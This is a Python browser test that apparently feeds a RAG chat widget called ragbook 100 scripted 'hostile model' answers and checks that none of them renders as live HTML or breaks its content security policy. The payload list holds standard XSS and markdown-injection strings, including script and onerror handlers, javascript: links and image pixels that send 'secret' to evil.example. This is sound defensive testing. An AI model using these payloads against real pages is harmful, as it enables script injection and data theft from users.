"""A hundred answers of a hostile model, through the whole of ragbook, in one page."""

from __future__ import annotations

import asyncio
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Route, expect

from benchmarks.fake_model import FakeModel
from benchmarks.servers import Server, manage, serving
from tests.browser.conftest import Noise

pytestmark = [pytest.mark.browser, pytest.mark.server, pytest.mark.timeout(900)]

EVIL = "https://evil.example"
PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    f'<img srcset="{EVIL}/p.png 1x"><picture><source srcset="{EVIL}/p.png"></picture>',
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
    f"<iframe src='{EVIL}'></iframe><object data='{EVIL}'></object><embed src='{EVIL}'>",
    "<a href='javascript:alert(1)'>click</a>",
    f"<link rel=stylesheet href={EVIL}/x.css><style>@import url({EVIL}/x.css)</style>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'><base href='{EVIL}'>",
    f"<form action='{EVIL}'><input autofocus onfocus=alert(1)></form>",
    "</textarea></template></style><script>alert(1)</script><!--",
    f"![pixel]({EVIL}/pixel.png?q=secret)",
    f"![pixel][ref]\n\n[ref]: {EVIL}/pixel.png",
    f"[click](javascript:alert(1)) and [here]({EVIL}) and <{EVIL}>",
    f"{EVIL}/bare?q=secret and www.evil.example and mailto:a@evil.example",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#106;avascript:alert(1)",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= alert(1) %>",
    "\u202eright to left override\u202c \u2066isolate\u2069 \u200fmark\u200f",
    "e\u0301\u0301\u0301" * 60 + " " + "👩‍👩‍👧‍👦" * 30,
    "unfinished **bold `code [link](",
    "```html\n<script>alert(1)</script>",
    "~~~~~\n```\n~~~\n<img src=x onerror=alert(1)>",
    "| a | b |\n|---|---|\n" + "| <b onclick=alert(1)>x</b> | y |\n" * 30,
    "| " + " | ".join("wide" for _ in range(60)) + " |\n" + "|---" * 60 + "|\n",
    "\x00\x1b[31m%00\x7f\u200b\ufeff\u2028\u2029 [1] [[2]] 【3†source】 <cite>4</cite>",
    "A" * 5_000 + " " + "<" * 500 + " " + "*_`~" * 200,
]
WRAPPINGS = [
    "Nodes exchange data. {} A node is a process.\n",
    "1. First.\n   - {}\n     - {}\n",
    "> {}\n\n# {}\n",
    "A node publishes `{}` and **{}**",
]
ANSWERS = [wrapping.replace("{}", payload) for payload in PAYLOADS for wrapping in WRAPPINGS]

ASK_ALL = """questions => new Promise((resolve) => {
  const outcomes = [];
  const next = () => ragbook.ask(questions[outcomes.length]);
  ragbook.on("answer", ({ outcome, shown }) => {
    outcomes.push([outcome, shown]);
    if (outcomes.length < questions.length) next(); else resolve(outcomes);
  });
  next();
})"""


@contextmanager
def hostile_model() -> Iterator[FakeModel]:
    """A model server in a thread of its own that gives one of the answers a call."""
    loop, model = asyncio.new_event_loop(), FakeModel(mode="script", script=ANSWERS)
    thread = threading.Thread(target=loop.run_forever)
    thread.start()
    asyncio.run_coroutine_threadsafe(model.__aenter__(), loop).result()
    try:
        yield model
    finally:
        asyncio.run_coroutine_threadsafe(model.__aexit__(), loop).result()
        loop.call_soon_threadsafe(loop.stop)
        thread.join()
        loop.close()


@pytest.fixture
def server(primer_home: Path, tmp_path: Path) -> Iterator[Server]:
    """It shows every sentence, whatever the judge says."""
    with hostile_model() as model:
        variables = {
            "OPENAI_API_KEY": "test",
            "OPENAI_BASE_URL": model.base_url,
            "RAGBOOK_MODEL": "fake",
            "RAGBOOK_CONVERSATION_RATE": "10000/m",
            "RAGBOOK_ADDRESS_RATE": "10000/m",
        }
        with serving(primer_home, tmp_path, "uvicorn", 0, **variables) as server:
            annotate = "from retrieval.models import Book; Book.objects.update(mode='annotate')"
            manage(server.environment, "shell", "--no-imports", "-c", annotate)
            yield server


def test_a_hundred_hostile_answers_do_nothing(chromium: Browser, server: Server) -> None:
    context = chromium.new_context()
    page, noise = context.new_page(), Noise()
    noise.watch(page, server.http.rsplit(":", 1)[-1])
    page.route("**/site/", lambda route: _site(route, server))
    page.add_init_script(
        "window.violations = [];"
        "addEventListener('securitypolicyviolation', ({ blockedURI, violatedDirective }) =>"
        " violations.push([violatedDirective, blockedURI]))"
    )
    page.goto(f"{server.http}/site/")
    page.locator("ragbook-widget").wait_for(state="attached")
    outcomes = page.evaluate(ASK_ALL, [f"What is a node? ({n})" for n in range(len(ANSWERS))])
    assert len(outcomes) == 100
    assert {outcome for outcome, _ in outcomes} <= {"answered", "quoted", "refused"}
    assert sum(shown for _, shown in outcomes) > 150
    expect(page.locator("ragbook-widget .turn").last).to_be_visible()
    drawn = page.locator("ragbook-widget .body")
    expect(drawn.filter(has_text="alert(1)").first).to_be_visible()
    expect(
        drawn.locator("script, img, svg:not(.icon), iframe, link, style, form, a")
    ).to_have_count(0)
    assert page.evaluate("document.documentElement.scrollWidth") <= 1280
    assert page.evaluate("window.violations") == []
    assert noise == Noise()
    context.close()


def _site(route: Route, server: Server) -> None:
    """A page that allows ragbook alone."""
    host = server.http.removeprefix("http://")
    policy = (
        f"default-src 'none'; script-src {host}; connect-src {host} ws://{host}; "
        "require-trusted-types-for 'script'"
    )
    script = f'<script type="module" src="{server.http}/widget.js" data-book="primer"></script>'
    route.fulfill(
        body=f"<!doctype html><title>Site</title><h1>Site</h1>{script}",
        headers={"Content-Type": "text/html", "Content-Security-Policy": policy},
    )
